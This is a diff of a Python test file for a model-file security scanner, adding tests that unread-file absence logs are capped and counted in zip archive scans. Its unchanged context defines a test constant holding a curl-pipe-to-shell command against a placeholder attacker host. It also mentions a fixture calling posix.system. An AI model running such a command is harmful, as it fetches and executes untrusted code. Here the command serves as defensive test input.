@@ -5,6 +5,7 @@ from __future__ import annotations
 import base64
 import json
 import struct
+import zipfile
 from collections.abc import Callable, Iterator
 from pathlib import Path
 
@@ -12,11 +13,11 @@ import pytest
 from builders import onnx_files, tensorflow_wire
 
 import modelaudit
-from modelaudit.model.limits import MIB
+from modelaudit.model.limits import MIB, Limits
 from modelaudit.model.outline import Reference, ReferenceKind, References
-from modelaudit.model.structure import UnreadReason
+from modelaudit.model.structure import Unread, UnreadReason
 from modelaudit.wire.base import LimitReachedError
-from modelaudit.wire.bounds import KeptItems, build_references, keep_first, keep_first_distinct
+from modelaudit.wire.bounds import AbsenceLog, KeptItems, build_references, keep_first, keep_first_distinct
 
 DOWNLOAD = "curl http://evil.example/x | sh"
 # Both with zero bytes behind them: the dictionary {"a": 1}, and a call of posix.system.
@@ -232,3 +233,33 @@ def test_kept_items_are_counted_up_to_each_bound() -> None:
         kept.count(2)
     with pytest.raises(LimitReachedError, match="names of more than 5 bytes"):
         KeptItems("symbols", 2, 5).count(0, 6)
+
+
+def test_absence_log_lists_absences_up_to_its_bound_and_counts_the_others() -> None:
+    absence = Unread(UnreadReason.NO_READER, "no reader", format="x")
+    log = AbsenceLog(2)
+    for number in range(2):
+        log.append((f"a.zip!{number}", absence))
+    assert log == [("a.zip!0", absence), ("a.zip!1", absence)]
+    for number in range(2, 5):
+        log.append((f"a.zip!{number}", absence))
+    *listed, (address, counted) = log
+    assert listed == [("a.zip!0", absence), ("a.zip!1", absence)]
+    assert (address, counted.reason) == ("a.zip", UnreadReason.LIMIT)
+    assert counted.detail == "3 further absences of its parts are not listed"
+    assert ("a.zip!4", absence) in log.list_since(len(log))
+
+
+def test_absences_of_all_files_are_listed_up_to_the_bound(tmp_path: Path) -> None:
+    for name in ("a.zip", "b.zip"):
+        with zipfile.ZipFile(tmp_path / name, "w") as archive:
+            for number in range(4):
+                archive.writestr(f"{number}.bin", b"\1\2\3")
+    report = modelaudit.scan(tmp_path, second_opinion=False, limits=Limits(absences=3))
+    absences = [absence.unread.detail for record in report.coverage.artifacts for _, absence in record.absences]
+    assert [detail for detail in absences if detail.endswith("not listed")] == [
+        "1 further absences of its parts are not listed",
+        "3 further absences of its parts are not listed",
+    ]
+    assert len(absences) == 6
+    assert report.exit_code == 3
